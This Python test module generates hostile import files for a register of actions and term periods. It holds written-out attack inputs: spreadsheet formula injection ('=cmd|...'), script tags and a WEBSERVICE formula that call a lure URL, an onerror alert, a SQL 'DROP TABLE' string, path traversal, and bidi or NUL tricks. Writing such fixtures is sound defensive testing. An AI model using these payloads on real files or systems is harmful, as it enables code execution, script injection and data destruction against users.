"""Lists of actions and of term dates: words and days that would do harm once they are on the register."""

import io

import pyarrow as pa
import pyarrow.parquet as pq

from tests.hostile.making import Lures, cells_xml, hostile, sheet_xml, xlsx

ACTIONS = ("reference", "what", "due on", "done on")
TERMS = ("label", "first day", "last day", "kind")
MANY = 10_000


def _lines(*rows: tuple[str, ...]) -> bytes:
    return "".join(",".join(row) + "\n" for row in rows).encode()


def _parquet(names: tuple[str, ...], *rows: tuple[str, ...]) -> bytes:
    written = io.BytesIO()
    pq.write_table(pa.table(dict(zip(names, map(list, zip(*rows, strict=True)), strict=True))), written)
    return written.getvalue()


@hostile("actions.csv")
def actions_that_are_formulas(_: Lures) -> bytes:
    texts = ("=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", '"\r=1+1"')
    return _lines(ACTIONS, *(("P1", text, "", "2024-03-04") for text in texts))


@hostile("actions.csv")
def actions_that_are_scripts(lures: Lures) -> bytes:
    script = f"<script src='{lures.url}/x.js'></script>"
    return _lines(ACTIONS, ("P1", script, "", "2024-03-04"), ("P1", "<img src=x onerror=alert(1)>", "2024-03-04", ""))


@hostile("actions.csv")
def actions_that_turn_and_hide(_: Lures) -> bytes:
    return _lines(
        ACTIONS, ("P1", "Patrol \u202elortap\u202c", "", "2024-03-04"), ("P1", "Pa\u200btrol", "2024-03-04", "")
    )


@hostile("actions.csv")
def references_that_are_statements(_: Lures) -> bytes:
    texts = ("P1'; DROP TABLE action; --", "%", "P1\\", "../P1")
    return _lines(ACTIONS, *((text, "Patrol", "", "2024-03-04") for text in texts))


@hostile("actions.csv")
def ten_thousand_actions(_: Lures) -> bytes:
    return _lines(ACTIONS, *(("P1", f"Patrol of the street {n}", "", "2024-03-04") for n in range(MANY)))


@hostile("actions.csv")
def an_action_of_a_hundred_thousand_letters(_: Lures) -> bytes:
    return _lines(ACTIONS, ("P1", "patrol " * 15_000, "", "2024-03-04"))


@hostile("actions.csv")
def days_of_actions_out_of_all_bounds(_: Lures) -> bytes:
    days = ("9999-12-31", "0000-00-00", "-9999-01-01", "292277026597-01-01", "1e9", "٢٠٢٤-٠١-٠١", "0" * 9999)
    return _lines(ACTIONS, *(("P1", "Patrol", day, day) for day in days))


@hostile("actions.parquet")
def an_action_with_a_nul(_: Lures) -> bytes:
    return _parquet(ACTIONS[:2] + ACTIONS[3:], ("P1", "Pat\0rol", "2024-03-04"))


@hostile("actions.xlsx")
def an_action_that_is_a_link_out(lures: Lures) -> bytes:
    link = f'<row><c t="str"><f>WEBSERVICE("{lures.url}")</f><v>P1</v></c><c t="str"><v>Patrol</v></c></row>'
    return xlsx(sheet_xml(cells_xml("reference", "what", "done on") + link))


@hostile("terms.csv")
def a_term_of_a_thousand_years(_: Lures) -> bytes:
    return _lines(TERMS, ("All of time", "1990-01-01", "2999-12-31", "term"))


@hostile("terms.csv")
def ten_thousand_periods_that_overlap(_: Lures) -> bytes:
    return _lines(TERMS, *((f"Period {n}", "2024-01-01", "2024-03-04", "holiday") for n in range(MANY)))


@hostile("terms.csv")
def a_period_whose_name_has_a_hundred_thousand_letters(_: Lures) -> bytes:
    return _lines(TERMS, ("autumn " * 15_000, "2024-01-01", "2024-03-04", "term"))


@hostile("terms.parquet")
def a_period_with_a_nul(_: Lures) -> bytes:
    return _parquet(TERMS, ("Aut\0umn", "2024-01-01", "2024-03-04", "term"))


@hostile("terms.csv")
def periods_that_are_scripts_and_formulas(lures: Lures) -> bytes:
    scripts = (f"<script src='{lures.url}/x.js'></script>", "=cmd|'/c calc'!A0", "\u202emret nmutua")
    return _lines(TERMS, *((text, f"2024-0{n}-01", f"2024-0{n}-04", "term") for n, text in enumerate(scripts, 1)))
